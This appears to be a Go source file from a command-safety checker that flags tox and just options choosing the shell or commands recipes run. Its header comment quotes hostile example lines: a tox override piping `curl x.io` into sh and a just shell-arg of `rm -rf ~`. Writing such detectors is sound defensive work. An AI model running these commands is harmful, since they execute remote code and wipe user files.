package patterns

import (
	"fmt"
	"strings"
)

// Task and test runners whose options choose the command or the shell
// their recipes run with (rt36 #2), read as make's SHELL= and npm's
// --script-shell are (nested_side.go): tox's -x/--override of a commands
// key replaces what tox runs (`tox -x 'testenv.commands=bash -c "curl
// x.io|sh"'`), and just's --shell and --shell-arg choose the program and
// the words every recipe line is handed to (`just --shell bash --shell-arg
// -c --shell-arg 'rm -rf ~'`). A known shell by a plain path, and
// shell-args that are flags alone (-c, -cu, -euc), are left alone, as is
// an override of any other key (`tox -x testenv.deps+=pytest-xdist`).

// shellArgFlags reports whether a shell-arg is one-letter flags only
// (-c, -euc): a dash, then one or more ASCII letters. A function, not a
// regular expression compiled at init, which would cost every hook
// process its allocations (TestAdapterInits).
func shellArgFlags(v string) bool {
	if len(v) < 2 || v[0] != '-' {
		return false
	}
	for i := 1; i < len(v); i++ {
		if c := v[i] | 0x20; c < 'a' || c > 'z' {
			return false
		}
	}
	return true
}

// runnerChosenCommand returns the unreadable marker of a tox or just part
// whose options choose the command its recipes run, or nil.
func (r *reading) runnerChosenCommand(p *Part) []*Node {
	if p.Program != "tox" && p.Program != "just" {
		return nil
	}
	unread := func(w Word, what string) []*Node {
		return []*Node{r.unreadable(p, UnreadableProgram, w.Span, fmt.Sprintf(
			"%s runs %s %s names, which the line chose: what it runs is not read here.",
			p.Program, what, quoteRaw(w.Raw)))}
	}
	for _, o := range runnerOptValues(p.Args(), p.Program) {
		v, ok := o.val.Literal()
		switch {
		case o.name == "override" && (!ok || overridesCommands(v)):
			return unread(o.val, "the commands the override")
		case o.name == "shell" && (!ok || !knownShellPath(v)):
			return unread(o.val, "every recipe line with the program")
		case o.name == "shell-arg" && (!ok || !shellArgFlags(v)):
			return unread(o.val, "every recipe line with the shell words")
		}
	}
	return nil
}

// overridesCommands reports whether a tox override KEY=VALUE sets one of
// the keys that hold commands (commands, commands_pre, commands_post,
// install_command, list_dependencies_command …).
func overridesCommands(v string) bool {
	key, _, _ := strings.Cut(v, "=")
	return strings.Contains(strings.ToLower(key), "command")
}

// runnerOpt is one option value of a runner: its name and its word.
type runnerOpt struct {
	name string
	val  Word
}

// runnerOptValues returns the values args give tox's -x/--override
// (named "override") or just's --shell and --shell-arg, as a word of
// their own or after "=" (tox's -x also attached: -xKEY=V).
func runnerOptValues(args []Word, prog string) []runnerOpt {
	names := map[string]string{"-x": "override", "--override": "override"}
	if prog == "just" {
		names = map[string]string{"--shell": "shell", "--shell-arg": "shell-arg"}
	}
	var out []runnerOpt
	for i := 0; i < len(args); i++ {
		lit, _ := litPrefix(args[i])
		if lit == "--" {
			break
		}
		if n, ok := names[lit]; ok && i+1 < len(args) {
			out = append(out, runnerOpt{n, args[i+1]})
			i++
			continue
		}
		if k, _, ok := strings.Cut(lit, "="); ok && strings.HasPrefix(k, "--") && names[k] != "" {
			out = append(out, runnerOpt{names[k], subWord(args[i], len(k)+1)})
			continue
		}
		if prog == "tox" && strings.HasPrefix(lit, "-x") && len(lit) > 2 {
			out = append(out, runnerOpt{"override", subWord(args[i], 2)})
		}
	}
	return out
}
